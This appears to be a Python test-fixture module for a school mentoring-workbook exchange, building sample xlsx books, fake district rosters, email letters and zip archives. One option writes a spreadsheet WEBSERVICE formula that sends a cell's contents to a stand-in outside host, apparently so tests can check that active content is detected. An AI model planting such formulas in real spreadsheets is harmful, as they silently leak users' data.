"""Schools, their books and their letters for the tests."""

from __future__ import annotations

import email.utils
import hashlib
import io
import zipfile
from collections.abc import Mapping
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import xlsxwriter

from nastavnik.exchange.inspection import Remark, Verdict
from nastavnik.exchange.registry import District, Organisation
from nastavnik.exchange.stamp import META_KEYS

XLSX = "vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def tiny_book(
    code: str = "05-01", content: str = "один", *, submission: int | None = None, packed_at: str | None = None,
    errors: int = 0, year: str = "2026/2027", form_id: str = "school", name: str | None = None, inn: str | None = None,
    active: bool = False, meta: bool = True,
) -> bytes:  # fmt: skip
    """A workbook with nothing but what an exchange looks at; its data are the text ``content``."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out, {"in_memory": True}) as book:
        sheet = book.add_worksheet("Данные")
        values = (form_id, code, name or f"МБОУ «СОШ {code}»", inn, year, content, errors)
        for row, value in enumerate(values):
            if value is not None:
                sheet.write(row, 0, value)
        if active:
            sheet.write_formula(9, 0, '=WEBSERVICE("http://example.invalid/?"&A1)')
        if meta:
            hidden = book.add_worksheet("_meta")
            hidden.very_hidden()
            stamped = {
                "form_id": form_id,
                "form_version": "2026.1",
                "org_code": code,
                "submission": submission,
                "packed_at": packed_at,
            }
            for row, key in enumerate(META_KEYS):
                hidden.write_string(row, 0, key)
                if stamped.get(key) is not None:
                    hidden.write(row, 1, stamped[key])
    return out.getvalue()


class TinyInspector:
    """Reads the books of ``tiny_book``: quick, and with no more to it than the exchange needs."""

    def inspect(self, path: Path) -> Verdict:
        import python_calamine

        try:
            book = python_calamine.CalamineWorkbook.from_path(str(path))
            rows = book.get_sheet_by_name("Данные").to_python(skip_empty_area=False)
            meta = (
                dict(r[:2] for r in book.get_sheet_by_name("_meta").to_python() if len(r) > 1)
                if "_meta" in book.sheet_names
                else {}
            )
        except Exception as error:
            return Verdict("unreadable", f"не открывается ({type(error).__name__})")
        cells = [row[0] for row in rows] + [""] * 7
        form_id, code, name, inn, year, content, errors = cells[:7]
        if form_id not in ("school", "district"):
            return Verdict("not-ours", "это не книга наставничества")
        errors = int(errors or 0)
        remarks = tuple(
            Remark("error", "Наставники", f"B{6 + i}", "Не указана фамилия.", "Впишите фамилию.", "required")
            for i in range(errors)
        )
        return Verdict(
            "errors" if errors else "ok", form_id=form_id, version=str(meta.get("form_version") or ""), org_code=str(code) or None,
            org_name=name, inn=str(inn) or None, school_year=year, submission=int(meta.get("submission") or 0) or None,
            packed_at=meta.get("packed_at") or None, stamped_hash=meta.get("content_hash") or None,
            content_hash=hashlib.sha256(f"{code}|{year}|{content}|{errors}".encode()).hexdigest(),
            errors=errors, rows={"Наставники": 3}, remarks=remarks,
        )  # fmt: skip

    def annotate(self, path: Path, target: Path) -> bool:
        target.write_bytes(path.read_bytes())
        return True

    def rebuild(self, path: Path, target: Path, meta: Mapping[str, Any]) -> bool:
        return False


def district(count: int = 3, **extra: Any) -> District:
    """A district of schools 05-01 … with addresses shkola1@… and, for every seventh, a password."""
    schools = tuple(
        Organisation.of(
            f"05-{n:02d}", f"МБОУ «СОШ № {n}»", f"shkola{n}@rayon.example", password=f"пароль-{n}" if n % 7 == 0 else None,
            inn=f"24070{n:05d}",
        )
        for n in range(1, count + 1)
    )  # fmt: skip
    return District("Управление образования", "rono@rayon.example", schools, "2026/2027", **extra)


def letter(
    sender: str = "shkola1@rayon.example", *files: tuple[str, bytes], subject: str = "Книга", date: str | None = None,
    message_id: str | None = None,
) -> bytes:  # fmt: skip
    """An ordinary letter with attachments."""
    message = EmailMessage()
    message["From"] = sender
    message["To"] = "rono@rayon.example"
    message["Subject"] = subject
    message["Date"] = date or email.utils.formatdate(1_795_000_000)
    message["Message-ID"] = message_id or email.utils.make_msgid(domain="rayon.example")
    message.set_content("Здравствуйте! Книга во вложении.")
    for name, data in files:
        message.add_attachment(data, maintype="application", subtype=XLSX, filename=name)
    return message.as_bytes()


def zipped(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files:
            archive.writestr(name, data)
    return out.getvalue()
